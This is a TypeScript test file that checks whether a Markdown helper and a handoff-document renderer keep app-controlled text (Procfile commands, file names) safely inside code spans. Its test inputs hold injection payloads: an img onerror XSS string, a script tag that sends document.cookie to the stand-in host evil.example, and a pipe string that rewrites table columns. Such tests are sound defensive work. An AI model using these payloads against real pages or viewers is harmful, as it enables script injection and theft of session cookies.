// HANDOFF.md puts app-controlled text (Procfile commands, the release command, petri.toml's
// health_check, the names of special files left out of the slug) inside `code` with mdCode.
// mdCode picks a fence of two backticks when the text holds one, but a text that holds two
// backticks in a row closes that fence early (CommonMark: a code span ends at the next run of
// backticks of the same length), and what follows is raw Markdown/HTML in the handoff that a
// production team opens in a Markdown viewer. Also: a '|' inside a code span in a GFM table
// still splits the cell, so a command rewrites the table's columns (e.g. its instance count).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderHandoff } from '../../src/graduation/handoff.js';
import { mdCode } from '../../src/graduation/markdown.js';
import { sampleInput } from '../graduation/sample-input.js';

/** The text of a line outside its code spans, by CommonMark's rule for code spans: a run of
 * n backticks opens one, the next run of exactly n backticks closes it. */
function outsideCode(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i];
      i++;
      continue;
    }
    let n = 0;
    while (line[i + n] === '`') n++;
    // Look for a closing run of exactly n backticks.
    let j = i + n;
    let closed = -1;
    while (j < line.length) {
      if (line[j] === '`') {
        let m = 0;
        while (line[j + m] === '`') m++;
        if (m === n) {
          closed = j;
          break;
        }
        j += m;
      } else j++;
    }
    if (closed === -1) {
      out += line.slice(i, i + n);
      i += n;
    } else {
      i = closed + n;
    }
  }
  return out;
}

test('mdCode keeps a text with a double backtick inside its code span', () => {
  const hostile = 'node a `` <img src=x onerror=alert(document.domain)> `` b';
  const md = mdCode(hostile);
  assert.ok(!outsideCode(md).includes('<img'), `raw HTML outside the code span: ${md}`);
});

test('HANDOFF.md: a Procfile command cannot put raw HTML in the handoff', () => {
  const input = sampleInput();
  input.release.processTypes.web = 'node server.js `` <img src=x onerror=alert(1)> ``';
  const text = renderHandoff(input, []);
  const raw = text.split('\n').filter((l) => outsideCode(l).includes('<img'));
  assert.deepEqual(raw, [], 'lines with an <img> outside any code span');
});

test('HANDOFF.md: a file name left out of the slug cannot put raw HTML in the handoff', () => {
  const input = sampleInput();
  // A FIFO the build left in /app: its name is the app's choice (anything but / and NUL).
  input.slug.leftOut = ['fifo `` <script>fetch("//evil.example/"+document.cookie)</script> ``'];
  const text = renderHandoff(input, []);
  const raw = text.split('\n').filter((l) => outsideCode(l).includes('<script'));
  assert.deepEqual(raw, [], 'lines with a <script> outside any code span');
});

test("HANDOFF.md: a command with '|' cannot add columns to the process table", () => {
  const input = sampleInput();
  input.release.processTypes.web = 'node server.js | 0 | 999';
  const text = renderHandoff(input, []);
  const row = text.split('\n').find((l) => l.startsWith('| web'))!;
  // Cells of a GFM table row: split on '|' not escaped by a backslash (code spans do not protect).
  const cells = row.split(/(?<!\\)\|/).slice(1, -1);
  assert.equal(cells.length, 3, `the web row has ${cells.length} cells: ${row}`);
});
